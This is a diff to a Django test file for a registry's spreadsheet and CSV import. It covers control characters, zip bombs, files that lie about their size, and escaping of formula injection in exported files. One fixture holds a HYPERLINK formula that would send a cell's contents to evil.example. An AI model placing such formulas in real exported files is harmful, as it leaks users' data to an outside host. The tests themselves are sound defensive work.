@@ -1,21 +1,33 @@
 """Files made to break the import, or broken by a bad day: control characters, zip bombs, files
 that lie about their size (issue #25)."""
 
+import csv
 import io
 import re
 import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.utils import translation
+from openpyxl import load_workbook
 
-from wirausaha.registry.errors import ImportRefused
 from wirausaha.registry.actions import clean
-from wirausaha.registry.imports import actions, archive, reading, run
+from wirausaha.registry.errors import ImportRefused
+from wirausaha.registry.imports import actions, archive, reading, run, template
 from wirausaha.registry.imports.actions import create_import_job, start_import
+from wirausaha.registry.imports.queries import error_file
 from wirausaha.registry.models import ImportJob, Participant
+from wirausaha.registry.tests.imports import support
 from wirausaha.registry.tests.imports.support import check, csv_bytes, errors_of, row, xlsx_bytes
 
 pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture(autouse=True)
+def english():
+    """Messages are checked in their source language; the pages translate them."""
+    with translation.override("en"):
+        yield
 
 
 # Control characters
@@ -39,7 +51,15 @@ def test_a_nul_byte_after_the_first_4_kb_is_refused_with_row_and_column_in_the_d
 
 
 def test_control_characters_in_an_xlsx_cell_and_a_header_are_handled_alike():
-    header = ["nik", "nama_lengkap\x7f", "tanggal_lahir", "jenis_kelamin", "no_hp", "kode_wilayah", "tanggal_phk"]
+    header = [
+        "nik",
+        "nama_lengkap\x7f",
+        "tanggal_lahir",
+        "jenis_kelamin",
+        "no_hp",
+        "kode_wilayah",
+        "tanggal_phk",
+    ]
     data = xlsx_bytes(row(1), row(2, no_hp="0812\x9b34567890"), header=header)
 
     applied = check(data, dry_run=False)
@@ -75,7 +95,9 @@ def small_limits(monkeypatch):
     monkeypatch.setattr(archive, "MAX_UNPACKED_BYTES", 6 * 1024 * 1024)
 
 
-def test_a_workbook_that_unpacks_far_beyond_its_size_is_refused_before_it_is_parsed(small_limits, monkeypatch):
+def test_a_workbook_that_unpacks_far_beyond_its_size_is_refused_before_it_is_parsed(
+    small_limits, monkeypatch
+):
     data = bomb(2 * 1024 * 1024)
     assert len(data) < 20 * 1024
 
@@ -122,7 +144,7 @@ def test_rows_columns_and_text_read_are_capped(make, monkeypatch):
     long_name = "Siti " + "x" * 1000
     result = check(make(row(1, nama_lengkap=long_name), [*row(2), "extra", "cells"]))
     assert errors_of(result) == [(2, "nama_lengkap")]
-    assert "300)" in result.errors[0]["message"]
+    assert "now 300" in result.errors[0]["message"]
     assert result.valid == 1
 
     monkeypatch.setattr(reading, "MAX_ROWS", 3)
@@ -159,7 +181,9 @@ def upload_and_start(data: bytes, by, django_capture_on_commit_callbacks):
 @pytest.mark.parametrize(
     "data",
     [
-        pytest.param(lying_dimension(xlsx_bytes(*(row(serial) for serial in range(1, 31)))), id="xlsx-dimension"),
+        pytest.param(
+            lying_dimension(xlsx_bytes(*(row(serial) for serial in range(1, 31)))), id="xlsx-dimension"
+        ),
         pytest.param(
             csv_bytes(*(row(serial) for serial in range(1, 31))).replace(b"\r\n", b"\r"), id="csv-cr-only"
         ),
@@ -189,9 +213,57 @@ def test_a_cr_only_csv_is_counted_by_its_lines():
         assert table.estimated_rows == 30
 
 
-def test_a_short_file_still_runs_in_the_request(jabar_officer, monkeypatch, django_capture_on_commit_callbacks):
+def test_a_short_file_still_runs_in_the_request(
+    jabar_officer, monkeypatch, django_capture_on_commit_callbacks
+):
     monkeypatch.setattr(actions, "INLINE_ROWS", 10)
 
-    job, callbacks = upload_and_start(csv_bytes(row(1), row(2)), jabar_officer, django_capture_on_commit_callbacks)
+    job, callbacks = upload_and_start(
+        csv_bytes(row(1), row(2)), jabar_officer, django_capture_on_commit_callbacks
+    )
 
     assert (job.status, job.valid, len(callbacks)) == (ImportJob.Status.CHECKED, 2, 0)
+
+
+# Formulas in the files we write
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&C2,"Lihat")'
+
+
+def test_the_error_file_writes_hostile_headers_and_cells_as_text(jabar_officer):
+    header = [*support.HEADER, "@catatan"]
+    data = csv_bytes([*row(1, nama_lengkap=HOSTILE, no_hp="12"), "-1+1"], header=header)
+    job = create_import_job(upload=SimpleUploadedFile("a.csv", data), dry_run=True, by=jabar_officer)
+    run.run_import(job)
+
+    lines = error_file(job).decode("utf-8-sig").splitlines()
+    cells = next(csv.reader(lines[1:], delimiter=";"))
+
+    assert lines[0].split(";")[-2] == "'@catatan"
+    assert cells[1] == "'" + HOSTILE and cells[-2] == "'-1+1"
+
+
+def test_the_error_column_is_text_even_when_it_starts_with_a_hostile_header(jabar_officer):
+    # "=nik()" is still read as the NIK column: brackets and signs do not count in a header.
+    data = csv_bytes(row(1, nik="123"), header=["=nik()", *support.HEADER[1:]])
+    job = create_import_job(upload=SimpleUploadedFile("a.csv", data), dry_run=True, by=jabar_officer)
+    run.run_import(job)
+
+    lines = error_file(job).decode("utf-8-sig").splitlines()
+    cells = next(csv.reader(lines[1:], delimiter=";"))
+
+    assert lines[0].startswith("'=nik();") and cells[-1].startswith("'=nik(): ")
+
+
+def test_the_templates_write_hostile_headers_and_cells_as_text(monkeypatch):
+    monkeypatch.setattr(template, "template_header", lambda name: "=" + name)
+    monkeypatch.setattr(template, "_", lambda text: "+" + text)
+
+    assert template.template_csv().decode("utf-8-sig").startswith("'=nik;'=full_name;")
+    book = load_workbook(io.BytesIO(template.template_xlsx()))
+    data, guide = book.worksheets
+    assert data["A1"].value == "'=nik" and data["A1"].data_type == "s"
+    values = [cell for cells in guide.iter_rows() for cell in cells if cell.value]
+    assert values and all(cell.data_type == "s" for cell in values)
+    assert all(not cell.value.startswith(("=", "+")) for cell in values)
